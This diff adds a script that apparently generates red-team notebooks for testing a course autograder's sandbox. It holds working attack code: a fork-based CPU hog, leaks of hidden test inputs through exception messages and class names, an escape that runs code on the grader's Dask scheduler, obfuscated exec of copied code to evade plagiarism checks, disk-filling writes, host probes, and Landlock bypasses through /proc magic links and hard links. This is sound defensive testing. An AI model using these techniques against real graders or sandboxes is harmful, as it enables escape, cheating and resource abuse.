@@ -1,0 +1,393 @@
+"""Builds the red team's notebooks from the solutions (or stubs): `python tests/redteam/make.py OUTDIR`.
+
+Each attack is a base notebook plus cells inserted or functions replaced; the notebooks are
+generated, not stored, so they follow the solutions as those change.
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+import sys
+from pathlib import Path
+
+ROOT = Path(__file__).resolve().parents[2]
+
+
+def load(name: str, stub: bool = False) -> dict:
+    folder = "assignments" if stub else "solutions"
+    return json.loads((ROOT / folder / f"{name}.ipynb").read_text())
+
+
+def code(src: str) -> dict:
+    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": src}
+
+
+def with_cells(nb: dict, first: list[str] = (), last: list[str] = ()) -> dict:
+    nb = copy.deepcopy(nb)
+    cells = nb["cells"]
+    nb["cells"] = [code(s) for s in first] + cells + [code(s) for s in last]
+    return nb
+
+
+def replace_def(nb: dict, name: str, new_src: str) -> dict:
+    nb = copy.deepcopy(nb)
+    for cell in nb["cells"]:
+        src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
+        if cell["cell_type"] == "code" and src.lstrip().startswith(f"def {name}("):
+            cell["source"] = new_src
+            return nb
+    raise KeyError(name)
+
+
+ATTACKS: dict[str, callable] = {}
+
+
+def attack(fn):
+    ATTACKS[fn.__name__] = fn
+    return fn
+
+
+HOG = r"""
+import os, time
+# Busy children, each in a session of its own (so autogroup gives each its own share), for the
+# length of this cell; the runner kills them when the cell ends.
+for _ in range({n}):
+    if os.fork() == 0:
+        try:
+            os.setsid()
+            x = 0
+            while True:
+                x += 1
+        finally:
+            os._exit(0)
+time.sleep({seconds})
+"""
+
+
+@attack
+def cpu_hog_04():
+    """04 solution with two cells, each holding 150 busy processes for 25 s, before anything else."""
+    return with_cells(load("04_optimizers"), first=[HOG.format(n=150, seconds=25)] * 2)
+
+
+LEAK = r"""
+def l1_penalty(theta):
+    import numpy as np
+    raise ValueError("LEAK " + np.array2string(np.asarray(theta), precision=17, separator=",", threshold=10**6))
+"""
+
+
+@attack
+def leaks_hidden_inputs_05():
+    """05 solution whose l1_penalty raises with its input in the message: feedback shows hidden inputs."""
+    return replace_def(load("05_regularisation"), "l1_penalty", LEAK)
+
+
+DASK = r"""
+# At the no-namespace level the notebook shares the host's network: find the Dask scheduler the
+# grader uses (its address is on the grader's or the worker's command line in /proc) and run a
+# function on a worker, outside the sandbox, as the worker's user.
+import os, re, socket
+found = set()
+for pid in os.listdir("/proc"):
+    try:
+        with open(f"/proc/{pid}/cmdline", "rb") as fh:
+            cmd = fh.read().replace(b"\0", b" ").decode(errors="replace")
+    except OSError:
+        continue
+    found.update(re.findall(r"tcp://[0-9.]+:\d+", cmd))
+found.add("tcp://127.0.0.1:8786")
+notes = [f"seen: {sorted(found)}"]
+
+
+def _outside():
+    import os, subprocess, pathlib, glob, json
+    report = {"uid": os.getuid(), "id": subprocess.run(["id"], capture_output=True, text=True).stdout.strip()}
+    sols = sorted(glob.glob("/work/*/solutions/05_regularisation.ipynb"))
+    if sols:
+        report["solution_bytes"] = len(pathlib.Path(sols[0]).read_bytes())
+        report["solution_path"] = sols[0]
+    pathlib.Path("/tmp/redteam-dask-pwned.json").write_text(json.dumps(report))
+    return report
+
+
+for address in sorted(found):
+    try:
+        from distributed import Client
+        with Client(address, timeout=5) as client:
+            # run_on_scheduler needs no free worker thread (a 1-thread worker is busy grading this)
+            seen = client.run_on_scheduler(_outside)
+            raise RuntimeError(f"ran outside the sandbox via {address}: {seen}")
+    except RuntimeError:
+        raise
+    except Exception as exc:
+        notes.append(f"{address}: {type(exc).__name__} {str(exc)[:150]}")
+raise RuntimeError(f"no scheduler reached: {notes}")
+"""
+
+
+@attack
+def dask_escape_05():
+    """05 solution plus one cell that submits a task to the grader's Dask scheduler."""
+    return with_cells(load("05_regularisation"), first=[DASK])
+
+
+def _hidden(src: str) -> str:
+    import base64
+    import zlib
+
+    blob = base64.b64encode(zlib.compress(src.encode())).decode()
+    return f"import base64 as _b, zlib as _z\nexec(_z.decompress(_b.b64decode({blob!r})).decode())"
+
+
+@attack
+def copy_plain_05():
+    """A classmate's 05 notebook copied as is (the similarity report's baseline)."""
+    return load("05_regularisation")
+
+
+@attack
+def copy_hidden_05():
+    """The same copy, every code cell run from a compressed string: the report sees one string."""
+    nb = load("05_regularisation")
+    for cell in nb["cells"]:
+        if cell["cell_type"] == "code":
+            src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
+            cell["source"] = _hidden(src)
+    return nb
+
+
+LEFTOVER = r"""
+# World-writable folders the cleanup does not list (shared.PLACES: /tmp, /var/tmp, /dev/shm,
+# /run/lock, /dev/mqueue): anything else a pool uid can write escapes the quota and stays.
+import os
+kept = []
+for root, dirs, files in os.walk("/var", onerror=None):
+    if root.count("/") > 6:
+        dirs[:] = []
+        continue
+    try:
+        st = os.stat(root)
+    except OSError:
+        continue
+    if st.st_mode & 0o002 and root not in ("/var/tmp",):
+        try:
+            path = os.path.join(root, "redteam-leftover.bin")
+            with open(path, "wb") as fh:
+                for _ in range(20):
+                    fh.write(b"\0" * (1 << 20))
+            kept.append(path)
+        except OSError as exc:
+            print(root, exc)
+print("left behind:", kept)
+"""
+
+
+@attack
+def leaves_files_outside_places_05():
+    """05 solution plus a cell writing 20 MB into every world-writable folder under /var but /var/tmp."""
+    return with_cells(load("05_regularisation"), first=[LEFTOVER])
+
+
+CLIP_IN_PLACE = r"""
+def clip_by_global_norm(grads, max_norm):
+    # Clips the caller's own arrays in place (what the contract forbids) and returns them.
+    global_norm = math.sqrt(sum(float(np.sum(np.asarray(g, dtype=float) ** 2)) for g in grads))
+    factor = max_norm / max(global_norm, max_norm)
+    for g in grads:
+        if isinstance(g, np.ndarray) and g.dtype.kind == "f":
+            g *= factor
+    return tuple(np.asarray(g, dtype=float) for g in grads), global_norm
+"""
+
+
+@attack
+def modifies_nested_input_01():
+    """01 solution whose clip_by_global_norm scales the arrays of its list argument in place."""
+    return replace_def(load("01_activations_and_initialisation"), "clip_by_global_norm", CLIP_IN_PLACE)
+
+
+def _hidden_unnamed(src: str) -> str:
+    import base64
+    import zlib
+
+    blob = base64.b64encode(zlib.compress(src.encode())).decode()
+    # the builtin reached by a name built at run time: no `exec`, `eval` or `compile` in the cell's text
+    return f"import base64 as _b, zlib as _z, builtins as _B\ngetattr(_B, 'ex' + 'ec')(_z.decompress(_b.b64decode({blob!r})).decode())"
+
+
+@attack
+def copy_hidden_unnamed_05():
+    """The copy run from a compressed string through a builtin whose name is built at run time."""
+    nb = load("05_regularisation")
+    for cell in nb["cells"]:
+        if cell["cell_type"] == "code":
+            src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
+            cell["source"] = _hidden_unnamed(src)
+    return nb
+
+
+SLEEPS = """
+import time
+time.sleep(3600)  # a hang that spends no CPU time
+"""
+
+
+@attack
+def sleeps_04():
+    """04 solution with three first cells that each sleep an hour: what a hang that spends no CPU costs a batch."""
+    return with_cells(load("04_optimizers"), first=[SLEEPS] * 3)
+
+
+PROBE_HOST = r"""
+# What the no-namespace level still lets a cell reach; the findings travel in the cell's error.
+import ctypes, glob, os, socket
+seen = {}
+
+
+def attempt(what, fn):
+    try:
+        seen[what] = fn()
+    except Exception as exc:
+        seen[what] = f"{type(exc).__name__}: {exc}"[:80]
+
+
+def fds():
+    out = {}
+    for fd in os.listdir("/proc/self/fd"):
+        try:
+            out[fd] = os.readlink(f"/proc/self/fd/{fd}")
+        except OSError:
+            pass
+    return out
+
+
+def udp():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    return s.sendto(b"x" * 100, ("127.0.0.1", 9))
+
+
+def tcp():
+    s = socket.create_connection(("127.0.0.1", 18786), timeout=3)
+    return "connected"
+
+
+def solutions():
+    found = glob.glob("/work/*/solutions/*.ipynb") + glob.glob("/autograder/source/solutions/*.ipynb")
+    return open(found[0]).read(20) if found else "none listed"
+
+
+def leftover():
+    with open("/var/cache/dnn-grader/warm-rootfs/tmp/redteam-leftover.bin", "wb") as fh:
+        return fh.write(b"x" * 1000)
+
+
+def sysv_queue():
+    libc = ctypes.CDLL(None, use_errno=True)
+    qid = libc.msgget(0x52454454, 0o1666)  # IPC_CREAT | 0666
+    return qid if qid >= 0 else f"errno {ctypes.get_errno()}"
+
+
+def grader_cmdline():
+    out = []
+    for pid in os.listdir("/proc"):
+        try:
+            cmd = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ")
+        except OSError:
+            continue
+        if b"autograder grade" in cmd:
+            out.append(cmd.decode(errors="replace")[:120])
+    return out[:2]
+
+
+for what, fn in [("fds", fds), ("udp", udp), ("tcp", tcp), ("solutions", solutions), ("leftover", leftover),
+                 ("sysv_queue", sysv_queue), ("grader_cmdline", grader_cmdline)]:
+    attempt(what, fn)
+raise RuntimeError(repr(seen))
+"""
+
+
+@attack
+def probes_the_host_05():
+    """05 solution plus one cell trying fds, UDP, TCP, the solutions, leftovers, SysV queues, /proc."""
+    return with_cells(load("05_regularisation"), first=[PROBE_HOST])
+
+
+LANDLOCK_BYPASS = r"""
+# Ways around path rules: magic links in /proc, hard links, the parent's folders.
+import glob, os
+seen = {}
+target = "/work/ci-check/solutions/05_regularisation.ipynb"
+for what, path in [
+    ("proc_self_root", "/proc/self/root" + target),
+    ("proc_1_root", "/proc/1/root" + target),
+    ("proc_ppid_cwd", f"/proc/{os.getppid()}/cwd"),
+    ("proc_self_cwd_up", "/proc/self/cwd/../../../.."),
+]:
+    try:
+        if os.path.isdir(path):
+            seen[what] = sorted(os.listdir(path))[:5]
+        else:
+            with open(path) as fh:
+                seen[what] = fh.read(30)
+    except Exception as exc:
+        seen[what] = f"{type(exc).__name__}: {exc}"[:70]
+try:
+    os.link(target, "hard-link.ipynb")
+    seen["hard_link"] = open("hard-link.ipynb").read(30)
+except Exception as exc:
+    seen["hard_link"] = f"{type(exc).__name__}"
+raise RuntimeError(repr(seen))
+"""
+
+
+@attack
+def bypasses_landlock_05():
+    """05 solution plus one cell trying /proc magic links and hard links to a readable-by-mode solution."""
+    return with_cells(load("05_regularisation"), first=[LANDLOCK_BYPASS])
+
+
+LEAK_TYPE = r"""
+def l1_penalty(theta):
+    import numpy as np
+    # the input spelled in an exception class's name: survives hiding the message
+    digits = "_".join(f"{v:.6e}".replace("-", "m").replace(".", "p").replace("+", "") for v in np.ravel(theta)[:12])
+    raise type("LEAK_" + digits, (Exception,), {})()
+"""
+
+
+@attack
+def leaks_hidden_inputs_in_type_names_05():
+    """05 solution whose l1_penalty raises an exception class named after its input."""
+    return replace_def(load("05_regularisation"), "l1_penalty", LEAK_TYPE)
+
+
+LEAK_04 = r"""
+def momentum_step(theta, grad, m, learning_rate, beta=0.9):
+    import numpy as np
+    raise ValueError("LEAK " + np.array2string(np.asarray(theta), precision=17, separator=",", threshold=10**6))
+"""
+
+
+@attack
+def leaks_hidden_inputs_04():
+    """04 solution whose momentum_step raises with its input (the Gradescope image grades 04)."""
+    return replace_def(load("04_optimizers"), "momentum_step", LEAK_04)
+
+
+@attack
+def probes_the_host_04():
+    """The host probe on the 04 solution (for the Gradescope image, which grades 04)."""
+    return with_cells(
+        load("04_optimizers"), first=[PROBE_HOST, LANDLOCK_BYPASS.replace("/work/ci-check", "/autograder/source")]
+    )
+
+
+if __name__ == "__main__":
+    out = Path(sys.argv[1])
+    out.mkdir(parents=True, exist_ok=True)
+    wanted = sys.argv[2:] or list(ATTACKS)
+    for name in wanted:
+        (out / f"{name}.ipynb").write_text(json.dumps(ATTACKS[name](), indent=1))
+        print(out / f"{name}.ipynb")
